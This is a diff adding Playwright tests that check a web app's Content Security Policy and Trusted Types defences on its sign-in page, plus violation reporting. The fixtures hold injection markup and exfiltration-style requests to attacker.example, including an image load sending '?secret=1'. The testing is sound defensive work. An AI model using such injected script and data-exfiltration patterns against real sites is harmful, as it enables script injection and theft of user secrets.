@@ -187,6 +187,27 @@ test.describe("a script that got into a page all the same", () => {
       `<style>@import "https://attacker.example/x.css"</style>`,
       `<base href="https://attacker.example/">`,
     ].join("");
+    await page.goto("/sign-in");
+    const inserted = await page.evaluate((html) => {
+      try {
+        document.createElement("div").innerHTML = html;
+        return "inserted";
+      } catch (error) {
+        return String(error);
+      }
+    }, markup);
+    expect(inserted).toContain("TypeError");
+
+    // What would stop it in a browser that knows no trusted types.
+    await page.route("/sign-in", async (route) => {
+      const response = await route.fetch();
+      const policy = response.headers()["content-security-policy"] ?? "";
+      const older = policy.replace(/; (?:require-)?trusted-types[^;]*/g, "");
+      await route.fulfill({
+        response,
+        headers: { ...response.headers(), "content-security-policy": older },
+      });
+    });
     const tryIt = async (where: Page) => {
       await where.evaluate((html) => {
         const element = document.createElement("div");
@@ -210,5 +231,51 @@ test.describe("a script that got into a page all the same", () => {
     await page.goto(address);
     await tryIt(page);
     await expect.poll(() => page.evaluate(() => localStorage.getItem("planted"))).toBe("ran");
+  });
+
+  test("cannot be made of text or from elsewhere, only of the build's own files (threat: a page that writes what it was given)", async ({
+    page,
+  }) => {
+    await page.goto("/sign-in");
+    const tried = await page.evaluate(() => {
+      const outcome = (act: (script: HTMLScriptElement) => void) => {
+        try {
+          act(document.createElement("script"));
+          return "allowed";
+        } catch (error) {
+          return error instanceof TypeError ? "refused" : String(error);
+        }
+      };
+      return {
+        markup: outcome(() => (document.createElement("div").innerHTML = "<b>x</b>")),
+        written: outcome(() => document.write("<b>x</b>")),
+        text: outcome((script) => (script.text = "1")),
+        elsewhere: outcome((script) => (script.src = "https://attacker.example/x.js")),
+        answer: outcome((script) => (script.src = "/api/health/live?x=.js")),
+        build: outcome((script) => (script.src = "/_next/static/chunks/x.js")),
+      };
+    });
+    expect(tried).toEqual({
+      markup: "refused",
+      written: "refused",
+      text: "refused",
+      elsewhere: "refused",
+      answer: "refused",
+      build: "allowed",
+    });
+  });
+
+  test("is told of to Gancho by the browser, once, and without what the page held (threat: an attack that nobody hears of)", async ({
+    page,
+  }) => {
+    await page.goto("/sign-in?callbackUrl=%2Fwhat-the-address-held");
+    const told = page.waitForResponse((response) =>
+      response.url().endsWith("/api/policy-violations"),
+    );
+    await page.evaluate(() => {
+      const image = new Image();
+      image.src = "https://attacker.example/stolen?secret=1";
+    });
+    expect((await told).status()).toBe(204);
   });
 });
